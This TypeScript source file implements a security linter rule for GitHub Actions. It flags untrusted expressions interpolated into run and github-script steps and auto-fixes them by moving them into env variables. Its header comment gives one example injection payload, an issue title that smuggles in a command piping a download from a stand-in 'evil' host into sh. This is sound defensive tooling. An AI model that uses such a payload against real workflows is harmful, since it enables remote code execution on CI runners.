/**
 * Untrusted `${{ … }}` expressions in `run:` scripts and `actions/github-script` scripts. GitHub pastes the value
 * into the script text before the shell (or Node) sees it, so an issue titled `a"; curl evil | sh; "` runs.
 * The fix moves each expression into the step's `env:` and reads the variable, quoted, in the script.
 */
import { Scalar } from 'yaml';
import type { FixDraft, ModuleRule, OffsetEdit } from '../../engine/module';
import { PRIVILEGED_TRIGGERS, actionName, get, lineIndent, scalarText, span, workflowsOf, type Job, type Step, type Workflow } from './workflow';
import { describeSource, taintedEnv, untrustedExpressions, type ExpressionHit } from './expressions';

/** An environment variable name for a context path: `github.event.issue.title` → `ISSUE_TITLE`. */
export function envNameFor(source: string): string {
  const path = source
    .replace(/ <- .*$/, '')
    .replace(/^toJSON\((.*)\)$/, '$1.json')
    .replace(/^github\.event\./, '')
    .replace(/^github\./, '')
    .replace(/\[\d+\]|\.\*/g, '')
    .replace(/^pull_request\./, 'pr.')
    .replace(/^github\.event$/, 'event');
  return path.split('.').join('_').replace(/[^A-Za-z0-9_]/g, '_').toUpperCase();
}

/** Where a new line can go after a node: the start of the line that follows it. */
function lineAfter(text: string, end: number): { at: number; prefix: string } {
  if (end > 0 && text[end - 1] === '\n') return { at: end, prefix: '' };
  const newline = text.indexOf('\n', end);
  return newline < 0 ? { at: text.length, prefix: '\n' } : { at: newline + 1, prefix: '' };
}

/** The quoting around an offset on its line: inside `'…'`, inside `"…"`, or bare. */
function quoting(text: string, offset: number): 'single' | 'double' | 'none' {
  const { lineStart } = lineIndent(text, offset);
  let state: 'single' | 'double' | 'none' = 'none';
  const before = text.slice(lineStart, offset);
  for (let i = 0; i < before.length; i++) {
    const ch = before[i];
    if (ch === '\\' && state !== 'single') i++;
    else if (ch === "'" && state !== 'double') state = state === 'single' ? 'none' : 'single';
    else if (ch === '"' && state !== 'single') state = state === 'double' ? 'none' : 'double';
  }
  return state;
}

/** Builds the move-to-env fix of one step, or undefined when it cannot be done mechanically. */
function moveToEnv(text: string, step: Step, hits: ExpressionHit[], shell: string): FixDraft | undefined {
  const run = step.run!;
  const powershell = /^(pwsh|powershell)\b/.test(shell);
  if (!powershell && !/^(bash|sh)\b/.test(shell)) return undefined;
  // Quoted YAML scalars would need escaping; a plain scalar must not start with the quote the fix adds.
  if (run.type !== Scalar.BLOCK_LITERAL && run.type !== Scalar.BLOCK_FOLDED && run.type !== Scalar.PLAIN) return undefined;
  if (step.env && step.env.flow) return undefined;
  const edits: OffsetEdit[] = [];
  const added = new Map<string, string>();
  const existing = new Map<string, string>();
  for (const pair of step.env?.items ?? []) existing.set(String((pair.key as Scalar).value), String(scalarText(pair.value) ?? ''));
  for (const hit of hits) {
    const where = quoting(text, hit.start);
    if (where === 'single') return undefined;
    if (run.type === Scalar.PLAIN && hit.start === span(run).start && !powershell) return undefined;
    let name: string;
    const envRead = /^env\.([A-Za-z_]\w*)$/.exec(hit.inner);
    if (envRead) name = envRead[1]!;
    else {
      const value = `\${{ ${hit.inner} }}`;
      const base = envNameFor(hit.source);
      name = base;
      for (let n = 2; (existing.has(name) && existing.get(name) !== value) || (added.has(name) && added.get(name) !== value); n++) name = `${base}_${n}`;
      if (existing.get(name) !== value) added.set(name, value);
    }
    const read = powershell ? `$env:${name}` : where === 'double' ? `\${${name}}` : `"\${${name}}"`;
    edits.push({ start: hit.start, end: hit.end, newText: powershell && where === 'none' ? `"${read}"` : read });
  }
  if (added.size) {
    const lines = [...added].map(([name, value]) => `${name}: ${value}`);
    if (step.env && step.env.items.length) {
      const first = step.env.items[0]!.key as Scalar;
      const indent = ' '.repeat(span(first).start - lineIndent(text, span(first).start).lineStart);
      const last = step.env.items[step.env.items.length - 1]!;
      const { at, prefix } = lineAfter(text, span((last.value ?? last.key) as Scalar).end);
      edits.push({ start: at, end: at, newText: `${prefix}${lines.map((l) => `${indent}${l}\n`).join('')}` });
    } else {
      const firstKey = step.node.items[0]!.key as Scalar;
      const indent = ' '.repeat(span(firstKey).start - lineIndent(text, span(firstKey).start).lineStart);
      const lastPair = step.node.items[step.node.items.length - 1]!;
      const { at, prefix } = lineAfter(text, span((lastPair.value ?? lastPair.key) as Scalar).end);
      edits.push({ start: at, end: at, newText: `${prefix}${indent}env:\n${lines.map((l) => `${indent}  ${l}\n`).join('')}` });
    }
  }
  return { title: 'Move the expression into env: and read it as a quoted variable (unsafe)', safety: 'unsafe', edits };
}

/** The shell a `run:` step uses: its own `shell:`, the job's or workflow's `defaults.run.shell`, else the runner's default. */
function effectiveShell(workflow: Workflow, job: Job, step: Step): string {
  const fromDefaults = (node: unknown) => scalarText(get(get(get(node, 'defaults'), 'run'), 'shell'));
  const explicit = step.shell ?? fromDefaults(job.node) ?? fromDefaults(workflow.root);
  if (explicit) return explicit;
  // Windows runners default to PowerShell; a label chosen by an expression is taken to be Linux.
  const runsOn = get(job.node, 'runs-on');
  return /windows/i.test(String(runsOn ?? '')) ? 'pwsh' : 'bash';
}

export const rule: ModuleRule = {
  check(ctx) {
    for (const workflow of workflowsOf(ctx)) {
      const privileged = [...workflow.triggers].filter((t) => PRIVILEGED_TRIGGERS.includes(t));
      for (const job of workflow.jobs) {
        for (const step of job.steps) {
          const tainted = taintedEnv(workflow, job, step);
          let target: { start: number; end: number } | undefined;
          let where: string;
          if (step.script) {
            target = step.script;
            where = 'this `run:` script';
          } else if (step.uses && actionName(String(step.uses.value)) === 'actions/github-script') {
            const script = get(step.with, 'script');
            if (script instanceof Scalar) target = span(script);
            where = 'this `actions/github-script` script';
          } else continue;
          if (!target) continue;
          const { start, end } = target;
          const hits = untrustedExpressions(ctx.text, start, end, tainted);
          if (!hits.length) continue;
          const fix = step.run ? moveToEnv(ctx.text, step, hits, effectiveShell(workflow, job, step)) : undefined;
          for (const hit of hits) {
            ctx.report({
              start: hit.start,
              end: hit.end,
              names: { source: describeSource(hit.source), where, trigger: privileged.length ? ` on \`${privileged.join('`, `')}\`` : '' },
              ...(privileged.length ? { severity: 'critical' as const } : {}),
              ...(fix ? { fixes: [fix] } : {}),
            });
          }
        }
      }
    }
  },
};
